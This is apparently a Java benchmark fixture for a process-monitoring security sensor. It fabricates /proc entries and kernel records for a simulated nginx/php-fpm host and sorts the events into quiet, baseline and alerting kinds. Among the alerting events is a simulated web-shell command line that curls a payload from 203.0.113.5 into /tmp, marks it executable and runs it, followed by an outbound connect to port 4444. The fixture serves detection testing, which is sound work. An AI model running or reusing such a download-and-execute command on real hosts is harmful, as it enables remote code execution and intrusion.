package io.spawnwatch.bench;

import io.spawnwatch.bench.KernelRecords.Process;
import io.spawnwatch.event.ConnectRecordDescriptor;
import io.spawnwatch.event.ProcessDescriptor;
import io.spawnwatch.event.RecordDescriptor;
import java.io.IOException;
import java.lang.foreign.MemorySegment;
import java.lang.foreign.ValueLayout;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;

/**
 * The events a Debian 12 LEMP host (nginx in front of php-fpm 8.2, user
 * www-data, uid 33) sends the sensor, as kernel records, plus the /proc and
 * /etc/passwd the sensor would read for the processes that never exec'd while
 * it ran (the web servers themselves).
 *
 * <p>Process tree (pids fixed, so that the process table reaches its steady
 * state: every pid, parent and lineage root an event names is in the table
 * after one pass, and no slot is ever reused):
 *
 * <pre>
 * 1 systemd
 * +- 1000 nginx (master, root)      +- 1001, 1002 nginx (workers, www-data; lineage root 1000, depth 1)
 * +- 2000 php-fpm8.2 (master, root) +- 2001..2004 php-fpm8.2 (workers, www-data; root 2000, depth 1)
 *                                       2001 +- 31000 sh -c convert ... (depth 2)
 *                                       |        +- 31001 convert (3) +- 31002 gs (4)
 *                                       2002 +- 31010 sendmail (mail(): sh execs it in place; depth 2)
 *                                       2003 +- 31100 sh -c 'curl ... /tmp/.NNNNNN; ...' (the web shell)
 *                                                +- 31101 curl (3), 31102 /tmp/.NNNNNN (3, connects out)
 * </pre>
 *
 * <p>Three kinds of event: {@link Kind#QUIET} match no rule at all (the web
 * servers' own connects, children of children that are no tool), {@link
 * Kind#BASELINE} match a rarity or new-terms rule but are quiet once seen (a
 * php-fpm worker running "sh -c convert" or sendmail), {@link Kind#ALERT}
 * alert every time: each carries a six-digit token (in the file name and the
 * command line, and for the connect in the destination address) that the
 * benchmark rewrites per event, so new-terms, rarity and repeat suppression
 * never see the same value again within their bounds.
 */
final class WebHostEvents implements AutoCloseable {
    /** How an event fares in the rules (by construction; the benchmark's census confirms it). */
    enum Kind {
        QUIET,
        BASELINE,
        ALERT
    }

    /** Placeholder for the per-event token; rewritten with six digits. */
    static final String TOKEN = "@@@@@@";
    static final int TOKEN_LENGTH = TOKEN.length();

    static final long CGROUP_NGINX = 4101;
    static final long CGROUP_PHP_FPM = 4102;
    private static final int WEB = ProcessDescriptor.MATCH_WEB_COMM | ProcessDescriptor.MATCH_WEB_USER
            | ProcessDescriptor.MATCH_LINEAGE;
    private static final int CHILD = ProcessDescriptor.MATCH_WEB_USER | ProcessDescriptor.MATCH_LINEAGE;
    private static final int WWW = 33;

    /** One kind of event: its record at {@code offset} in {@link #records()}. */
    record Event(String id, String name, Kind kind, int weight, long offset, int type, int pid, int ppid,
            int lineageRoot, long[] tokenOffsets, long addressOffset) {}

    private final Path dir;
    private final MemorySegment records;
    private final List<Event> events = new ArrayList<>();
    private long used;

    /** Writes every record into {@code records} and the fake /proc and passwd into a new temporary directory. */
    WebHostEvents(MemorySegment records) throws IOException {
        this.records = records;
        this.dir = Files.createTempDirectory("sw-bench-host-");
        writeHost();
        writeEvents();
    }

    Path proc() {
        return dir.resolve("proc");
    }

    /** Every pid with an entry in {@link #proc()}. */
    int[] procPids() {
        try (Stream<Path> list = Files.list(proc())) {
            return list.mapToInt(p -> Integer.parseInt(p.getFileName().toString())).sorted().toArray();
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    Path passwd() {
        return dir.resolve("passwd");
    }

    MemorySegment records() {
        return records;
    }

    /** Every kind of event, parents before children (the order a first pass must see them in). */
    List<Event> events() {
        return events;
    }

    /** Bytes of {@link #records()} needed. */
    static long bytesNeeded() {
        return 16 * KernelRecords.slot(RecordDescriptor.TYPE_EXEC) + 16 * KernelRecords.slot(
                RecordDescriptor.TYPE_CONNECT);
    }

    /**
     * The order events are handed to the evaluator for one mix, each kind
     * repeated by its weight, shuffled with a fixed seed.
     *
     * @param mix quiet (only {@link Kind#QUIET}), realistic (everything, by weight), alerting (only
     *     {@link Kind#ALERT}), no-attack (realistic without the alerting events), or one event's id
     *     (q-mysql, a-curl, ...: that event alone, for profiling)
     */
    List<Event> sequence(String mix) {
        List<Event> out = new ArrayList<>();
        boolean found = false;
        for (Event e : events) {
            boolean in = switch (mix) {
                case "quiet" -> e.kind() == Kind.QUIET;
                case "realistic" -> true;
                case "alerting" -> e.kind() == Kind.ALERT;
                case "no-attack" -> e.kind() != Kind.ALERT; // realistic without the web shell, for analysis
                default -> e.id().equals(mix); // one kind alone, for profiling
            };
            if (in) {
                found = true;
            }
            for (int i = 0; in && i < e.weight(); i++) {
                out.add(e);
            }
        }
        if (!found) {
            throw new IllegalArgumentException("mix=" + mix
                    + ": expected quiet, realistic, alerting, no-attack or an event id");
        }
        Collections.shuffle(out, new Random(42));
        return out;
    }

    // ------------------------------------------------------------------ the host

    private void writeHost() throws IOException {
        Files.writeString(passwd(), """
                root:x:0:0:root:/root:/bin/bash
                daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
                www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
                mysql:x:104:110:MySQL Server,,,:/nonexistent:/bin/false
                """);
        proc(1, "systemd", 0, 0, "/usr/lib/systemd/systemd", "/", 1, "/sbin/init");
        proc(1000, "nginx", 1, 0, "/usr/sbin/nginx", "/", CGROUP_NGINX,
                "nginx: master process /usr/sbin/nginx -g daemon on; master_process on;");
        for (int pid : new int[] {1001, 1002}) {
            proc(pid, "nginx", 1000, WWW, "/usr/sbin/nginx", "/", CGROUP_NGINX, "nginx: worker process");
        }
        proc(2000, "php-fpm8.2", 1, 0, "/usr/sbin/php-fpm8.2", "/", CGROUP_PHP_FPM,
                "php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)");
        for (int pid = 2001; pid <= 2004; pid++) {
            proc(pid, "php-fpm8.2", 2000, WWW, "/usr/sbin/php-fpm8.2", "/var/www/html", CGROUP_PHP_FPM,
                    "php-fpm: pool www");
        }
        // The children only need their cgroup (for the alert's container lookup, cached per cgroup).
        for (int pid : new int[] {31000, 31001, 31002, 31010, 31100, 31101, 31102}) {
            Path p = Files.createDirectories(proc().resolve(Integer.toString(pid)));
            Files.writeString(p.resolve("cgroup"), "0::/system.slice/php8.2-fpm.service\n");
        }
    }

    private void proc(int pid, String name, int ppid, int uid, String exe, String cwd, long cgroup, String cmdline)
            throws IOException {
        Path p = Files.createDirectories(proc().resolve(Integer.toString(pid)));
        Files.writeString(p.resolve("status"), "Name:\t" + name + "\nUmask:\t0022\nState:\tS (sleeping)\nTgid:\t"
                + pid + "\nPid:\t" + pid + "\nPPid:\t" + ppid + "\nUid:\t" + uid + "\t" + uid + "\t" + uid + "\t"
                + uid + "\n");
        Files.createSymbolicLink(p.resolve("exe"), Path.of(exe));
        Files.createSymbolicLink(p.resolve("cwd"), Path.of(cwd));
        Files.write(p.resolve("cmdline"), (cmdline + "\0").getBytes(StandardCharsets.UTF_8));
        Files.writeString(p.resolve("cgroup"), "0::/system.slice/" + (cgroup == CGROUP_NGINX ? "nginx.service"
                : cgroup == CGROUP_PHP_FPM ? "php8.2-fpm.service" : "init.scope") + "\n");
    }

    // ------------------------------------------------------------------ the events

    private void writeEvents() {
        // QUIET: the web servers at work, and children of children that are no tool.
        connect("q-mysql", "php-fpm -> mysql 127.0.0.1:3306", Kind.QUIET, 30, fpm(2001),
                "127.0.0.1", "127.0.0.1", 3306);
        connect("q-redis", "php-fpm -> redis 10.0.0.20:6379", Kind.QUIET, 15, fpm(2002),
                "10.0.0.2", "10.0.0.20", 6379);
        connect("q-upstream", "nginx -> upstream 10.0.0.7:8080", Kind.QUIET, 20, nginx(1001),
                "10.0.0.2", "10.0.0.7", 8080);
        connect("q-api", "php-fpm -> external API :443", Kind.QUIET, 8, fpm(2003),
                "10.0.0.2", "93.184.216.34", 443);
        connect("q-memcached", "php-fpm -> memcached [::ffff:10.0.0.21]:11211", Kind.QUIET, 5, fpm(2004),
                "::ffff:10.0.0.2", "::ffff:10.0.0.21", 11211);
        // BASELINE first in this list: the parents of the quiet grandchildren below.
        exec("b-sh-convert", "php-fpm -> sh -c convert ...", Kind.BASELINE, 5,
                new Process(31000, 2001, WWW, 2000, 2, CGROUP_PHP_FPM, CHILD | ProcessDescriptor.MATCH_WEB_PARENT,
                        "sh", "php-fpm8.2"),
                "/usr/bin/dash", "/var/www/html/uploads", "/usr/sbin/php-fpm8.2", "/var/www/html",
                List.of("sh", "-c", "convert /var/www/html/uploads/in.png -resize 50% /var/www/html/uploads/out.png"));
        exec("q-convert", "sh -> convert", Kind.QUIET, 5,
                new Process(31001, 31000, WWW, 2000, 3, CGROUP_PHP_FPM, CHILD, "convert", "sh"),
                "/usr/bin/convert-im6.q16", "/var/www/html/uploads", "/usr/bin/dash", "/var/www/html/uploads",
                List.of("convert", "/var/www/html/uploads/in.png", "-resize", "50%", "/var/www/html/uploads/out.png"));
        exec("q-gs", "convert -> gs", Kind.QUIET, 5,
                new Process(31002, 31001, WWW, 2000, 4, CGROUP_PHP_FPM, CHILD, "gs", "convert"),
                "/usr/bin/gs", "/var/www/html/uploads", "/usr/bin/convert-im6.q16", "/var/www/html/uploads",
                List.of("gs", "-q", "-dQUIET", "-dSAFER", "-dBATCH", "-dNOPAUSE", "-sDEVICE=pngalpha",
                        "-r72x72", "-sOutputFile=/tmp/magick-8bPqW0Zx", "-f/tmp/magick-Vh3kRx9a"));
        exec("b-sendmail", "php-fpm -> sendmail (mail())", Kind.BASELINE, 3,
                new Process(31010, 2002, WWW, 2000, 2, CGROUP_PHP_FPM, CHILD | ProcessDescriptor.MATCH_WEB_PARENT,
                        "sendmail", "php-fpm8.2"),
                "/usr/sbin/exim4", "/var/www/html", "/usr/sbin/php-fpm8.2", "/var/www/html",
                List.of("/usr/sbin/sendmail", "-t", "-i"));
        // ALERT: a web shell's steps, each with a fresh token.
        String drop = "/tmp/." + TOKEN;
        exec("a-sh-curl", "web shell: php-fpm -> sh -c 'curl -so /tmp/... ; chmod +x ; run'", Kind.ALERT, 1,
                new Process(31100, 2003, WWW, 2000, 2, CGROUP_PHP_FPM, CHILD | ProcessDescriptor.MATCH_WEB_PARENT,
                        "sh", "php-fpm8.2"),
                "/usr/bin/dash", "/var/www/html/wp-content/uploads", "/usr/sbin/php-fpm8.2", "/var/www/html",
                List.of("sh", "-c", "curl -so " + drop + " http://203.0.113.5/x; chmod +x " + drop + "; " + drop));
        exec("a-curl", "web shell: sh -> curl into /tmp", Kind.ALERT, 1,
                new Process(31101, 31100, WWW, 2000, 3, CGROUP_PHP_FPM, CHILD, "curl", "sh"),
                "/usr/bin/curl", "/var/www/html/wp-content/uploads", "/usr/bin/dash",
                "/var/www/html/wp-content/uploads", List.of("curl", "-so", drop, "http://203.0.113.5/x"));
        exec("a-drop", "web shell: sh -> /tmp/.NNNNNN", Kind.ALERT, 1,
                new Process(31102, 31100, WWW, 2000, 3, CGROUP_PHP_FPM, CHILD, "." + TOKEN, "sh"),
                drop, "/var/www/html/wp-content/uploads", "/usr/bin/dash", "/var/www/html/wp-content/uploads",
                List.of(drop));
        connect("a-connect", "web shell: /tmp/.NNNNNN -> 11.22.x.y:4444", Kind.ALERT, 1,
                new Process(31102, 31100, WWW, 2000, 3, CGROUP_PHP_FPM, CHILD, "." + TOKEN, "sh"),
                "10.0.0.2", "11.22.0.1", 4444); // outside every default internal range
    }

    private static Process fpm(int pid) {
        return new Process(pid, 2000, WWW, 2000, 1, CGROUP_PHP_FPM, WEB, "php-fpm8.2", "php-fpm8.2");
    }

    private static Process nginx(int pid) {
        return new Process(pid, 1000, WWW, 1000, 1, CGROUP_NGINX, WEB, "nginx", "nginx");
    }

    private void exec(String id, String name, Kind kind, int weight, Process p, String exe, String cwd,
            String parentExe, String parentCwd, List<String> args) {
        long at = take(RecordDescriptor.TYPE_EXEC);
        KernelRecords.exec(records, at, 0, p, exe, cwd, parentExe, parentCwd, args);
        add(id, name, kind, weight, at, RecordDescriptor.TYPE_EXEC, p, -1);
    }

    private void connect(String id, String name, Kind kind, int weight, Process p, String source, String destination,
            int port) {
        long at = take(RecordDescriptor.TYPE_CONNECT);
        KernelRecords.connect(records, at, 0, p, source, destination, port);
        add(id, name, kind, weight, at, RecordDescriptor.TYPE_CONNECT, p,
                kind == Kind.ALERT ? at + ConnectRecordDescriptor.DADDR_OFFSET : -1);
    }

    private long take(int type) {
        long at = used;
        used += KernelRecords.slot(type);
        if (used > records.byteSize()) {
            throw new IllegalStateException("bench: record area too small: " + records.byteSize());
        }
        return at;
    }

    private void add(String id, String name, Kind kind, int weight, long at, int type, Process p, long addressOffset) {
        long[] tokens = findTokens(at, KernelRecords.slot(type));
        if ((kind == Kind.ALERT) != (tokens.length > 0)) {
            throw new IllegalStateException("bench: " + name + ": alerting events and only they carry a token");
        }
        for (long t : tokens) {
            MemorySegment.copy("000000".getBytes(StandardCharsets.US_ASCII), 0, records, ValueLayout.JAVA_BYTE, t,
                    TOKEN_LENGTH);
        }
        events.add(new Event(id, name, kind, weight, at, type, p.pid(), p.ppid(), p.lineageRoot(), tokens,
                addressOffset));
    }

    private long[] findTokens(long at, long length) {
        byte[] b = records.asSlice(at, length).toArray(ValueLayout.JAVA_BYTE);
        byte[] t = TOKEN.getBytes(StandardCharsets.US_ASCII);
        List<Long> found = new ArrayList<>();
        outer:
        for (int i = 0; i + t.length <= b.length; i++) {
            for (int j = 0; j < t.length; j++) {
                if (b[i + j] != t[j]) {
                    continue outer;
                }
            }
            found.add(at + i);
            i += t.length - 1;
        }
        return found.stream().mapToLong(Long::longValue).toArray();
    }

    @Override
    public void close() throws IOException {
        try (Stream<Path> walk = Files.walk(dir)) {
            for (Path p : walk.sorted(Collections.reverseOrder()).toList()) {
                Files.deleteIfExists(p);
            }
        }
    }
}
